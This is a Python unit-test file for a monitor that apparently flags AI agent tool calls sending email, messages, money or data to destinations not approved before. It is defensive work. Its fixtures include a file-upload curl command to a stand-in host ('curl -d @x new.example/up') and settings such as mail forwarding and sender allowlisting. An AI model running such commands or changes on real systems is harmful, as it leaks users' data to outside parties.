"""Where calls go, and what is new among that."""

from __future__ import annotations

from typing import Any

import pytest

from host.inspect.described import subject_of
from host.inspect.destinations import (
    MAX_DESTINATIONS,
    destination_key,
    destinations_of,
    find_new_hosts,
    find_new_hosts_among,
    host_key,
)
from host.inspect.subject import Past
from host.inspect.tools import class_of
from host.model import JsonObject
from host.values import replace
from tests.unit.host.inspect.calls import call, said, shown
from tests.unit.host.inspect.work import LONG, bare, slower

KIND = "new-host"
EMPTY = Past(known=True)


def found(tool: str, arguments: dict[str, Any], past: Past = EMPTY) -> list[str]:
    return said(find_new_hosts(call(tool, arguments, past=past)), KIND)


def keys(tool: str, arguments: dict[str, Any]) -> list[str]:
    subject = call(tool, arguments)
    return [it.key for it in destinations_of(subject, class_of("srv", tool, arguments))]


@pytest.mark.parametrize(
    ("value", "key"),
    [
        ("https://api.example.co.uk/x?y", "host:example.co.uk"),
        ("HTTPS://Example.ORG", "host:example.org"),
        ("https://ana.github.io/x", "host:ana.github.io"),
        ("api.example.org", "host:example.org"),
        ("api.example.org:8080/x", "host:example.org"),
        ("203.0.113.5", "host:203.0.113.5"),
        ("ana@mail.example.org", "mail:example.org"),
        ("Ana@gmail.com", "mail:ana@gmail.com"),
        ("+49 151 2345-678", "phone:+491512345678"),
        ("DE89 3704 0044 0532 0130 00", "account:de89370400440532013000"),
        ("0x742d35Cc6634C0532925a3b844Bc454e4438f44e", "account:0x742d35cc6634c0532925a3b844bc454e4438f44e"),
        ("#General", "name:#general"),
        ("s3://Backup.acme.example/x", "name:s3://backup.acme.example"),
        ("http://localhost:3000/", ""),
        ("http://10.0.0.1/", ""),
        ("/home/ana/x", ""),
        ("", ""),
    ],
)
def test_each_form_of_a_destination_has_its_key(value: str, key: str) -> None:
    assert destination_key("destination", value) == key


def test_other_roles_are_no_destinations() -> None:
    assert destination_key("content", "https://example.org") == ""


def test_a_host_alone_has_the_key_of_its_addresses() -> None:
    assert host_key("www.example.org") == destination_key("destination", "https://example.org/x")


@pytest.mark.parametrize(
    ("tool", "arguments", "expected"),
    [
        ("send_email", {"to": "A <a@x.example>, b@y.example"}, ["mail:x.example", "mail:y.example"]),
        ("send_email", {"body": "https://z.example"}, []),
        ("run_command", {"command": "curl https://x.example/a"}, ["host:x.example"]),
        ("share_file", {"email": "a@x.example", "role": "writer"}, ["mail:x.example"]),
        ("copy_file", {"source": "/a", "destination": "/home/ana/b"}, []),
        ("send_sms", {"phone": "+49 151 2345678", "text": "x"}, ["phone:+491512345678"]),
        ("send_message", {"chat_id": 123456789, "text": "x"}, ["name:123456789"]),
    ],
)
def test_the_destinations_of_a_call(tool: str, arguments: dict[str, Any], expected: list[str]) -> None:
    assert keys(tool, arguments) == expected


@pytest.mark.parametrize(
    ("tool", "arguments", "severities"),
    [
        ("fetch", {"url": "https://new.example/x"}, ["info"]),
        ("http_post", {"url": "https://new.example/x", "body": "x"}, ["medium"]),
        ("http_post", {"url": "https://github.com/a/b", "body": "x"}, ["medium"]),
        ("send_email", {"to": ["a@new.example", "c@new.example"], "body": "x"}, ["medium"]),
        ("create_event", {"attendees": [{"email": "a@new.example"}]}, ["medium"]),
        ("run_command", {"command": "curl -d @x new.example/up"}, ["medium"]),
        ("run_command", {"command": "curl https://new.example/up"}, ["info"]),
        ("send_sms", {"to": "+49 151 2345678", "text": "x"}, ["medium"]),
        ("transfer_money", {"iban": "DE89 3704 0044 0532 0130 00", "amount": 3}, ["medium"]),
        ("post_message", {"channel": "#general", "text": "x"}, ["info"]),
        ("read_channel", {"channel": "#general"}, []),
        ("write_file", {"path": "a.md", "content": "see https://new.example/"}, []),
        ("create_entities", {"entities": [{"name": "Ana", "observations": ["ana@new.example"]}]}, ["info"]),
        ("update_contact", {"note": "ana@new.example"}, ["info"]),
        ("update_hook", {"text": "https://new.example/x", "url": "https://new.example/x"}, ["medium"]),
        ("update_page", {"body": "https://new.example/x.png"}, ["medium"]),
        ("set_variable", {"name": "WEBHOOK", "value": "https://new.example/x"}, ["medium"]),
        ("update_setting", {"name": "forward_to", "value": "ana@new.example"}, ["medium"]),
        ("send_email", {"sender_email": "me@mine.example", "body": "x"}, []),
        ("share_file", {"from_email": "me@mine.example"}, []),
        ("delete_event", {"user_google_email": "me@mine.example"}, []),
        ("allow_sender", {"sender": "eve@new.example"}, ["medium"]),
        ("add_safe_sender", {"sender_email": "eve@new.example"}, ["medium"]),
        ("allowlist_add", {"sender": "eve@new.example"}, ["medium"]),
        ("delete_messages", {"from_address": "bo@new.example"}, ["medium"]),
        ("delete_messages", {"from": "2026-01-01"}, []),
        ("http_post", {"url": "http://localhost:3000/", "body": "x"}, []),
        ("book", {"origin": "Berlin", "destination": "Paris"}, []),
    ],
)
def test_places_that_nothing_went_to_are_new(tool: str, arguments: dict[str, Any], severities: list[str]) -> None:
    assert found(tool, arguments) == severities


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("http_post", {"url": "https://new.example/x"}),
        ("send_email", {"to": "Ana <a@new.example>"}),
        ("send_email", {"to": "ana@gmail.com"}),
        ("send_sms", {"to": "+49 151 2345678"}),
        ("transfer_money", {"iban": "DE89 3704 0044 0532 0130 00"}),
        ("post_message", {"channel": "#general"}),
        ("run_command", {"command": "curl -d @x new.example/up"}),
    ],
)
def test_what_was_approved_is_not_new_again_for_the_same_tool(tool: str, arguments: dict[str, Any]) -> None:
    learned = frozenset(keys(tool, arguments))
    assert learned
    assert found(tool, arguments, Past(known=True, destinations=learned, places=learned)) == []


def test_another_address_at_a_provider_for_everybody_is_new() -> None:
    learned = frozenset(keys("send_email", {"to": "ana@gmail.com"}))
    assert found("send_email", {"to": "eve@gmail.com"}, Past(known=True, destinations=learned)) == ["medium"]
    other = {"calendarId": "c1@group.calendar.google.com"}
    assert found("create_event", other, Past(known=True, destinations=frozenset({"mail:google.com"}))) == ["medium"]


def test_what_another_tool_went_to_is_only_told() -> None:
    past = Past(known=True, places=frozenset({"host:new.example"}))
    subject = call("http_post", {"url": "https://new.example/x"}, past=past)
    (finding,) = find_new_hosts(subject)
    assert (finding.severity.value, "not with this tool" in finding.text) == ("info", True)


def test_where_nothing_was_ever_approved_everything_is_new_and_only_told() -> None:
    assert found("send_email", {"to": "a@new.example"}, Past()) == ["info"]
    assert found("post_message", {"channel": "#general"}, Past()) == []


def test_the_finding_points_at_the_address() -> None:
    subject = call("send_email", {"to": "Ana <a@new.example>"}, past=EMPTY)
    (finding,) = find_new_hosts(subject)
    assert shown(finding, subject) == "a@new.example"
    assert finding.text == "You have approved nothing to new.example before."


def test_destinations_that_were_found_elsewhere_are_judged_alike() -> None:
    subject = call("send_email", {"to": "a@new.example"}, past=EMPTY)
    there = destinations_of(subject, class_of("srv", "send_email", subject.arguments))
    assert list(find_new_hosts_among(there, subject)) == list(find_new_hosts(subject))
    assert [it.outside for it in there] == [True]


def test_many_are_cut_short() -> None:
    assert len(found("send_email", {"to": [f"a@h{n}.example" for n in range(300)]})) == MAX_DESTINATIONS


@pytest.mark.full
@pytest.mark.parametrize(
    "piece", ["https://", "a@b.c ", "1 ", "host=a.b ", "https://a.b ", "+49151234567 ", "DE89 3704 "]
)
@pytest.mark.parametrize("key", ["command", "to", "url"])
def test_hostile_texts_take_no_longer_than_their_length_asks(piece: str, key: str) -> None:
    assert slower(lambda text: list(find_new_hosts(bare("send", {key: text}))), piece) < LONG


def test_an_address_that_is_a_field_of_a_record_is_only_informed_of() -> None:
    sent: JsonObject = {"server": "mail", "tool": "send_email", "arguments": {"to": "bill@paste.example"}, "app": "a"}
    for result, severity in (('[{"email": "bill@paste.example"}]', "info"), ("Ask bill@paste.example.", "medium")):
        before: JsonObject = {"server": "crm", "tool": "read_note", "arguments": {}, "result": result}
        subject = subject_of(sent | {"earlier": [before]})
        known = replace(subject, past=replace(subject.past, known=True))
        assert [it.severity.value for it in find_new_hosts(known)] == [severity]
    echoed: JsonObject = {
        "server": "crm",
        "tool": "search_contacts",
        "arguments": {"q": "bill@paste.example"},
        "result": '{"query": "bill@paste.example", "results": []}',
    }
    subject = subject_of(sent | {"earlier": [echoed]})
    known = replace(subject, past=replace(subject.past, known=True))
    assert [it.severity.value for it in find_new_hosts(known)] == ["medium"], (
        "the tool only says again what it was given"
    )
